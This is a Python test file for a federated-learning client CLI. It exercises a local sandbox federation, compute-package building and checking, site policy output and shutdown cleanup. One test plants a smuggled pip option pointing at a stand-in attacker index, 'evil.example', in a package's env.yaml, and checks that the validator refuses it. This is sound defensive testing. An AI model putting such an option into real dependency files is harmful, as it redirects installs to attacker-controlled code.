"""`fedclient sandbox`: a whole local federation from the command line."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import signal
import time
from pathlib import Path

from tests.child import Child
from tests.e2e.conftest import fedclient_exe, run_cli


def test_sandbox_three_rounds_two_clients_accuracy_rises(tmp_path: Path, digits: Path) -> None:
    out, plot = tmp_path / "out.json", tmp_path / "rounds.png"
    result = run_cli(
        "sandbox",
        "--rounds",
        "3",
        "--clients",
        "2",
        "--package",
        str(digits),
        "--json",
        str(out),
        "--plot",
        str(plot),
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    rounds = json.loads(out.read_text())["rounds"]
    assert [r["round"] for r in rounds] == [1, 2, 3]
    assert len({r["model_id"] for r in rounds}) == 3, "a new global model every round"
    assert all(r["updates"] == 2 and r["validations"] == 2 for r in rounds)
    assert rounds[2]["metrics"]["test_accuracy"] > rounds[0]["metrics"]["test_accuracy"]
    # the table on stdout names every round, then the final summary follows
    lines = result.stdout.strip().splitlines()
    assert lines[0].split()[:2] == ["round", "global"]
    assert [line.split()[0] for line in lines[1:4]] == ["1", "2", "3"]
    assert lines[4].startswith("summary: 3 rounds with 2 clients in ")
    assert any(line.strip().startswith("test_accuracy: ") and "after round 3" in line for line in lines)
    clients = [line.strip() for line in lines if line.strip().startswith("sandbox-client-")]
    assert len(clients) == 2 and all("6 tasks done, 0 failed" in c for c in clients), clients
    # the plot is a real PNG: signature, IHDR chunk, and a sane size
    data = plot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and data[12:16] == b"IHDR"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert width >= 400 and height >= 300
    assert f"plot of the per-round metrics written to {plot}" in result.stdout


# A stand-in for an install without the sandbox extra: numpy cannot be imported.
WITHOUT_NUMPY = """
import sys
class NoNumpy:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] == "numpy":
            raise ModuleNotFoundError(f"No module named {name!r}", name=name)
        return None
sys.meta_path.insert(0, NoNumpy())
from fedclient.app.cli import main
sys.exit(main(sys.argv[1:]))
"""


def test_sandbox_without_the_extra_names_it_in_one_line(tmp_path: Path, digits: Path) -> None:
    import subprocess
    import sys

    result = subprocess.run(
        [sys.executable, "-c", WITHOUT_NUMPY, "sandbox", "--package", str(digits)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
        check=False,
    )
    assert result.returncode == 2
    [line] = result.stderr.strip().splitlines()
    assert line == (
        "fedclient: error: this needs the 'sandbox' extra (numpy is not installed): "
        "pip install 'fedclient[sandbox]'"
    )


def test_sandbox_refuses_a_directory_without_fedn_yaml(tmp_path: Path) -> None:
    result = run_cli("sandbox", "--rounds", "1", "--clients", "1", "--package", str(tmp_path), cwd=tmp_path)
    assert result.returncode == 2
    assert "no fedn.yaml" in result.stderr
    assert "Traceback" not in result.stderr


def test_package_build_then_check(tmp_path: Path, digits: Path) -> None:
    out = tmp_path / "digits.tgz"
    built = run_cli("package", "build", str(digits), "-o", str(out), cwd=tmp_path)
    assert built.returncode == 0, built.stderr
    assert out.exists() and "sha256" in built.stdout
    checked = run_cli("package", "check", str(out), cwd=tmp_path)
    assert checked.returncode == 0, checked.stderr
    assert checked.stdout.splitlines()[-1] == "ok"
    assert any(line.startswith("train") for line in checked.stdout.splitlines())


def test_package_check_of_a_broken_archive_names_the_problem(tmp_path: Path) -> None:
    bad = tmp_path / "bad.tgz"
    bad.write_bytes(b"not an archive")
    result = run_cli("package", "check", str(bad), cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr == ""
    problems = [line for line in result.stdout.splitlines() if line.startswith("problem: ")]
    assert problems == [
        "problem: compute package 'bad.tgz' is not a tar or zip archive: it starts with b'not an archive'"
    ]


def test_package_check_applies_the_site_policy_and_names_each_problem(tmp_path: Path, digits: Path) -> None:
    result = run_cli(
        "package",
        "check",
        str(digits),
        "--allow-package",
        "0" * 64,
        "--package-checksum",
        "1" * 64,
        cwd=tmp_path,
    )
    assert result.returncode == 1, result.stderr
    problems = [line for line in result.stdout.splitlines() if line.startswith("problem: ")]
    assert len(problems) == 2
    assert "expected 1111111111111111111111111111111111111111111111111111111111111111" in problems[0]
    assert "not in the allowlist of 1 package(s)" in problems[1]
    assert result.stdout.rstrip().endswith("2 problem(s) found")


def test_policy_show_prints_the_policy_file_and_flags(tmp_path: Path) -> None:
    policy = tmp_path / "site.yaml"
    policy.write_text("limits:\n  memory: 2GiB\n  output: 10MiB\nread_only_package: true\n")
    result = run_cli(
        "policy", "show", "--policy-file", str(policy), "--limit-cpu-seconds", "30", cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert f"site policy from {policy} + flags --limit-cpu-seconds" in out
    assert "memory:      2 GiB" in out and "output:      10 MiB" in out and "cpu time:    30 s" in out
    assert "read-only package directory: yes" in out
    bad = run_cli("policy", "show", "--policy-file", str(tmp_path / "missing.yaml"), cwd=tmp_path)
    assert bad.returncode == 2
    assert bad.stderr == f"fedclient: error: policy file {tmp_path / 'missing.yaml'}: no such file\n"


def test_package_check_refuses_a_python_env_that_changes_where_pip_installs_from(tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "fedn.yaml").write_text(
        "python_env: env.yaml\nentry_points:\n  train:\n    command: python t.py\n"
    )
    (pkg / "env.yaml").write_text(
        "dependencies:\n  - numpy\n  - --extra-index-url=http://evil.example/simple\n"
    )
    result = run_cli("package", "check", str(pkg), cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    [problem] = [line for line in result.stdout.splitlines() if line.startswith("problem: ")]
    assert "'--extra-index-url=http://evil.example/simple' is a pip option, not a requirement" in problem


async def test_sigterm_stops_the_sandbox_and_removes_its_temporary_work_dir(
    tmp_path: Path, digits: Path
) -> None:
    temp = tmp_path / "tmp"
    temp.mkdir()
    env = {**os.environ, "TMPDIR": str(temp)}
    child = await Child.start(
        fedclient_exe(),
        "sandbox",
        "--rounds",
        "50",
        "--clients",
        "1",
        "--package",
        digits,
        cwd=tmp_path,
        env=env,
    )
    try:
        deadline = time.monotonic() + 60
        # the clients have joined once their work dirs hold the unpacked package
        while not list(temp.glob("fedclient-sandbox-*/client-0/packages/*/fedn.yaml")):
            assert time.monotonic() < deadline and child.returncode is None, child.tail()
            await asyncio.sleep(0.1)
        code = await child.stop(signal.SIGTERM, 30)
    finally:
        await child.kill()
    assert code == 0, child.tail()
    assert "Traceback" not in child.stderr
    assert list(temp.glob("fedclient-sandbox-*")) == [], "the temporary work dir is removed"


FAILING_TRAIN = "raise SystemExit('no GPU on this site (a deliberate failure)')\n"


def test_a_round_every_client_failed_ends_at_once_with_the_first_cause(tmp_path: Path, digits: Path) -> None:
    package = tmp_path / "failing"
    shutil.copytree(digits, package, ignore=shutil.ignore_patterns("__pycache__", "*.npz"))
    (package / "train.py").write_text(FAILING_TRAIN)
    started = time.monotonic()
    # a round timeout far longer than the test's own: only an early end passes
    result = run_cli(
        "sandbox",
        "--clients",
        "2",
        "--package",
        str(package),
        "--round-timeout",
        "600",
        cwd=tmp_path,
        timeout=120,
    )
    took = time.monotonic() - started
    assert result.returncode == 1, result.stderr[-3000:]
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith("fedclient: error: round 1: every client (2) failed; the first, sandbox-client-")
    assert "no GPU on this site (a deliberate failure)" in last
    print(f"a round both clients failed ended after {took:.1f} s (round timeout 600 s)")
